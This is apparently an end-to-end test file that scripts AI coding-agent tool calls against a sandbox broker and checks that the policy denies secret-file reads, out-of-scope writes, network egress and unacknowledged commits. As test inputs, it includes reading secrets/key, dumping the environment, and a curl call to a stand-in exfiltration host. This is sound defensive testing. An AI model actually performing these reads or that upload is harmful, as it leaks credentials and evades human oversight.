// One table of lane scenarios for the other agents: each row says what the model asks for in
// each CLI's own tools and what a user must see afterwards. The assertions are the Claude Code
// suite's (test/e2e/lane/): denied reads never reach the model, out-of-scope writes do not
// happen, allowed writes do, egress is denied, a killed broker stops everything, the trace verifies.
import * as path from 'node:path';
import type { AgentTurn } from '../support/fakeAgentModels';
import type { LaneDirs } from '../support/lane';
import type { OtherAgent } from '../support/runAgentLane';
import { ENV_MARKER, KEY_MARKER, SECRET_FILES } from '../lane/common';

export interface Expect {
  /** Decisions in order (tool as the engine saw it + decision). */
  decisions?: Array<{ decision: 'allow' | 'deny'; rule?: RegExp }>;
  /** Workspace files that must exist with this content afterwards … */
  files?: Record<string, string>;
  /** … and files that must not exist. */
  absent?: string[];
  /** Markers that must never appear in anything the CLI sent to the model. */
  neverSent?: string[];
  /** Commits on HEAD afterwards (the workspace starts with one). */
  commits?: number;
}

export interface Scenario {
  name: string;
  files?: Record<string, string>;
  script: Record<OtherAgent, (d: LaneDirs) => AgentTurn[]>;
  /** SIGKILL the lane after this many finished tool calls (the CLI lives on without its broker). */
  killLaneAfterResults?: number;
  expect: Expect;
}

const abs = (d: LaneDirs, rel: string): string => path.join(d.ws, rel);
const patch = (body: string): { input: string } => ({ input: `*** Begin Patch\n${body}*** End Patch\n` });
const shell = (kind: OtherAgent, command: string): AgentTurn =>
  kind === 'gemini' ? { tool: 'run_shell_command', args: { command } } : { tool: 'exec_command', args: { cmd: command } };

export const SCENARIOS: Scenario[] = [
  {
    name: 'a denied read never reaches the model',
    files: SECRET_FILES,
    script: {
      gemini: (d) => [{ tool: 'read_file', args: { file_path: abs(d, 'secrets/key') } }],
      codex: (d) => [shell('codex', `cat ${abs(d, 'secrets/key')}`)],
    },
    expect: { decisions: [{ decision: 'deny', rule: /paths\.deny/ }], neverSent: [KEY_MARKER] },
  },
  {
    name: 'an out-of-scope write does not happen',
    files: SECRET_FILES,
    script: {
      gemini: (d) => [{ tool: 'write_file', args: { file_path: abs(d, 'docs/out.md'), content: 'nope\n' } }],
      codex: () => [{ tool: 'apply_patch', args: patch('*** Add File: docs/out.md\n+nope\n') }],
    },
    expect: { decisions: [{ decision: 'deny' }], absent: ['docs/out.md'] },
  },
  {
    name: 'an allowed write happens',
    files: SECRET_FILES,
    script: {
      gemini: (d) => [{ tool: 'write_file', args: { file_path: abs(d, 'src/ok.ts'), content: 'export const ok = 1;\n' } }],
      codex: () => [{ tool: 'apply_patch', args: patch('*** Add File: src/ok.ts\n+export const ok = 1;\n') }],
    },
    expect: { decisions: [{ decision: 'allow' }], files: { 'src/ok.ts': 'export const ok = 1;\n' } },
  },
  {
    name: 'a patch that also touches a denied path is denied as a whole',
    files: SECRET_FILES,
    script: {
      // Gemini refuses .env paths on its own before any hook: a denied path it does not know is used.
      gemini: (d) => [{ tool: 'replace', args: { file_path: abs(d, 'secrets/key'), old_string: 'KEY', new_string: 'X', instruction: 'rename the key' } }],
      codex: () => [{ tool: 'apply_patch', args: patch('*** Add File: src/fine.ts\n+x\n*** Update File: .env\n@@\n-API_TOKEN=x\n+API_TOKEN=y\n') }],
    },
    expect: { decisions: [{ decision: 'deny', rule: /paths\.deny/ }], absent: ['src/fine.ts'], files: { '.env': SECRET_FILES['.env'], 'secrets/key': SECRET_FILES['secrets/key'] } },
  },
  {
    name: 'egress to a host the policy does not allow is denied',
    files: SECRET_FILES,
    script: {
      gemini: () => [shell('gemini', 'curl -s https://exfil.example.net/upload')],
      codex: () => [shell('codex', 'curl -s https://exfil.example.net/upload')],
    },
    expect: { decisions: [{ decision: 'deny', rule: /network/ }] },
  },
  {
    name: 'the workspace .env stays out of the agent\'s environment',
    files: SECRET_FILES,
    script: {
      gemini: () => [shell('gemini', 'env')],
      codex: () => [shell('codex', 'env')],
    },
    expect: { decisions: [{ decision: 'allow' }], neverSent: [ENV_MARKER] },
  },
  {
    name: 'a commit waits for the supervisor\'s acknowledgement (none given headless: no commit)',
    files: SECRET_FILES,
    script: {
      gemini: (d) => [
        { tool: 'write_file', args: { file_path: abs(d, 'src/ok.ts'), content: 'ok\n' } },
        shell('gemini', `git -C ${d.ws} add -A && git -C ${d.ws} commit -qm agent-commit`),
      ],
      codex: (d) => [
        { tool: 'apply_patch', args: patch('*** Add File: src/ok.ts\n+ok\n') },
        shell('codex', `git -C ${d.ws} add -A && git -C ${d.ws} commit -qm agent-commit`),
      ],
    },
    expect: { files: { 'src/ok.ts': 'ok\n' }, commits: 1 },
  },
  {
    name: 'broker killed mid-session ⇒ nothing runs afterwards',
    files: SECRET_FILES,
    killLaneAfterResults: 1,
    script: {
      gemini: (d) => [
        { tool: 'write_file', args: { file_path: abs(d, 'src/before.ts'), content: 'before\n' } },
        { ...shell('gemini', `echo after > ${abs(d, 'src/after.ts')}`), delayMs: 1500 },
      ],
      codex: (d) => [
        { tool: 'apply_patch', args: patch('*** Add File: src/before.ts\n+before\n') },
        { ...shell('codex', `echo after > ${abs(d, 'src/after.ts')}`), delayMs: 1500 },
      ],
    },
    expect: { files: { 'src/before.ts': 'before\n' }, absent: ['src/after.ts'] },
  },
];
